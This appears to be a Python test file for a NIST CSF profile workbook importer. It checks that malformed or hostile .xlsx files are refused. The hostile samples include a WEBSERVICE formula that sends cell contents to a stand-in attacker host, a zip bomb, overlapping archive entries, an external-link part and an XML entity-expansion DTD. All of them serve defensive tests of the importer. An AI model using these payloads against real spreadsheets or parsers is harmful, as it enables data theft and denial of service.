"""Profile workbooks that are wrong or hostile: refused with sheet, row and column, nothing read."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest

from csfpilot.core.errors import InputRefused
from csfpilot.formats.profile_xlsx import profile_workbook, read_profile_workbook
from tests.formats.profile_xlsx_helpers import FRAMEWORK, edit, row_of, sample_profile

SHEET = "Current and Target Profile"


@pytest.fixture(scope="module")
def workbook_bytes() -> bytes:
    return profile_workbook(sample_profile(), FRAMEWORK)


def refused(data: bytes | Path) -> InputRefused:
    with pytest.raises(InputRefused) as info:
        read_profile_workbook(data, name="client.xlsx", framework=FRAMEWORK)
    return info.value


def refused_with(data: bytes, **options) -> InputRefused:
    with pytest.raises(InputRefused) as info:
        read_profile_workbook(data, name="client.xlsx", framework=FRAMEWORK, **options)
    return info.value


def test_a_word_that_is_not_a_level_names_sheet_row_and_column(workbook_bytes):
    row = row_of(workbook_bytes, "GV.OC-01")
    exc = refused(edit(workbook_bytes, SHEET, {f"H{row}": "banana"}))
    assert (exc.file, exc.sheet, exc.row, exc.column) == (
        "client.xlsx",
        SHEET,
        row,
        "H (Current Status)",
    )
    assert "'banana' is not a level of the 'status' scale" in exc.message
    assert "Largely implemented" in exc.message  # the choices are listed


@pytest.mark.parametrize(
    ("cell", "value", "expected"),
    [
        ("E", "perhaps", "'perhaps' is not Yes or No"),
        ("G", "whenever", "'whenever' is not a priority"),
        ("N", 7, "7 is not a priority"),
    ],
)
def test_wrong_values_are_refused_where_they_are(workbook_bytes, cell, value, expected):
    row = row_of(workbook_bytes, "GV.OC-01")
    exc = refused(edit(workbook_bytes, SHEET, {f"{cell}{row}": value}))
    assert (exc.sheet, exc.row, exc.column[0]) == (SHEET, row, cell)
    assert expected in exc.message


def test_a_wrong_tier_and_a_wrong_date(workbook_bytes):
    exc = refused(edit(workbook_bytes, "Tiers", {"B2": "7 Superb"}))
    assert (exc.sheet, exc.row, exc.column) == ("Tiers", 2, "B (Current Tier)")
    exc = refused(edit(workbook_bytes, "Action plan", {"E2": "next spring"}))
    assert (exc.sheet, exc.row, exc.column) == ("Action plan", 2, "E (Due)")
    assert "not a date" in exc.message
    exc = refused(edit(workbook_bytes, "Action plan", {"G2": "sort of"}))
    assert (exc.sheet, exc.row, exc.column) == ("Action plan", 2, "G (Status)")
    assert "action status" in exc.message


def test_a_renamed_column_is_refused_naming_it_and_what_is_missing(workbook_bytes):
    exc = refused(edit(workbook_bytes, SHEET, {"H1": "Status now"}))
    assert (exc.sheet, exc.row, exc.column) == (SHEET, 1, "H")
    assert "'Status now' is not a column of this template" in exc.message
    assert "Current Status" in exc.message


def test_a_deleted_outcome_column_is_refused(workbook_bytes):
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    wb[SHEET].delete_cols(3)  # CSF Outcome
    out = io.BytesIO()
    wb.save(out)
    exc = refused(out.getvalue())
    assert exc.sheet == SHEET and exc.message.startswith("the sheet has no column 'CSF Outcome'")
    assert exc.message.endswith("missing: CSF Outcome")


def test_an_extra_column_with_data_is_refused_not_dropped(workbook_bytes):
    exc = refused(edit(workbook_bytes, SHEET, {"X1": "Budget", "X5": "10k"}))
    assert exc.column == "X" and "'Budget' is not a column" in exc.message
    exc = refused(edit(workbook_bytes, SHEET, {"Y5": "10k"}))
    assert exc.column == "Y" and "no header but holds data" in exc.message


def test_wrong_or_extra_sheets_are_refused(workbook_bytes):
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    wb["Tiers"].title = "CSF Tiers"
    out = io.BytesIO()
    wb.save(out)
    exc = refused(out.getvalue())
    assert exc.sheet == "CSF Tiers" and "does not read" in exc.message
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    del wb["Current and Target Profile"]
    out = io.BytesIO()
    wb.save(out)
    exc = refused(out.getvalue())
    assert exc.sheet == SHEET and f"no sheet {SHEET!r}" in exc.message


def test_content_without_saying_included_is_a_choice_proposed_as_included(workbook_bytes):
    row = row_of(workbook_bytes, "ID.AM-01")
    result = read_profile_workbook(
        edit(workbook_bytes, SHEET, {f"F{row}": "we do this"}), name="c.xlsx", framework=FRAMEWORK
    )
    assert result.profile.outcomes["ID.AM-01"].included is True
    assert [(c.kind, c.text, c.proposed, c.cells) for c in result.choices] == [
        ("included", "", "yes", (f"Current and Target Profile!E{row}",))
    ]
    exc = refused_with(
        edit(workbook_bytes, SHEET, {f"F{row}": "we do this"}), choices={"included:": "maybe"}
    )
    assert (exc.row, exc.column) == (row, "E (Included in Profile?)")
    assert "the mapping for '' is wrong" in exc.message


def test_an_unknown_outcome_id_is_refused_on_its_row(workbook_bytes):
    exc = refused(edit(workbook_bytes, SHEET, {"C2": "GV.XX-99"}))
    assert exc.sheet == SHEET and exc.row == 2
    assert "GV.XX-99" in exc.message


def test_formulas_are_refused_never_evaluated(workbook_bytes):
    row = row_of(workbook_bytes, "GV.OC-01")
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    wb[SHEET][f"V{row}"] = '=WEBSERVICE("http://attacker.invalid/?"&A1)'
    out = io.BytesIO()
    wb.save(out)
    exc = refused(out.getvalue())
    assert (exc.row, exc.column) == (row, "V (Notes)")
    assert "formula" in exc.message


def test_an_external_link_part_is_never_followed(workbook_bytes):
    """A workbook with an external-link part: links are dropped on opening, cells stay data."""
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"/></externalLink>',
        )
    result = read_profile_workbook(out.getvalue(), name="client.xlsx", framework=FRAMEWORK)
    assert result.profile.name == sample_profile().name


def test_a_zip_bomb_disguised_as_xlsx_is_refused_before_parsing():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<" + b"a" * (300 * 1024 * 1024) + b"/>")
    assert len(out.getvalue()) < 1024 * 1024
    exc = refused(out.getvalue())
    assert "zip bomb" in exc.message or "decompress" in exc.message


def test_overlapping_archive_entries_are_refused(workbook_bytes):
    """Two directory entries pointing at the same compressed bytes (a quoted-overlap bomb)."""
    data = bytearray(workbook_bytes)
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    infos = archive.infolist()
    first, second = infos[0], infos[1]
    # Point the second entry's central directory record at the first entry's local header.
    eocd = data.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack("<I", data[eocd + 16 : eocd + 20])[0]
    pos = cd_offset
    for info in infos:
        name_len, extra_len, comment_len = struct.unpack("<HHH", data[pos + 28 : pos + 34])
        if info.filename == second.filename:
            data[pos + 42 : pos + 46] = struct.pack("<I", first.header_offset)
        pos += 46 + name_len + extra_len + comment_len
    exc = refused(bytes(data))
    assert "overlap" in exc.message or "local header" in exc.message


def test_a_500_mb_file_is_refused_by_its_size_before_reading(tmp_path):
    big = tmp_path / "huge.xlsx"
    with big.open("wb") as fh:
        fh.truncate(500 * 1024 * 1024)  # sparse: takes no disk space
    exc = refused(big)
    assert "bytes" in exc.message and "500" not in exc.file


def test_not_a_workbook_at_all():
    exc = refused(b"Outcome,Status\nGV.OC-01,fully\n")
    assert "not a zip archive" in exc.message


def test_xml_entity_expansion_is_refused(workbook_bytes):
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    out = io.BytesIO()
    dtd = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = b'<?xml version="1.0"?>' + dtd + body.replace(b">Function<", b">&lol2;<", 1)
            target.writestr(item, body)
    exc = refused(out.getvalue())
    assert "DTD or entities" in exc.message
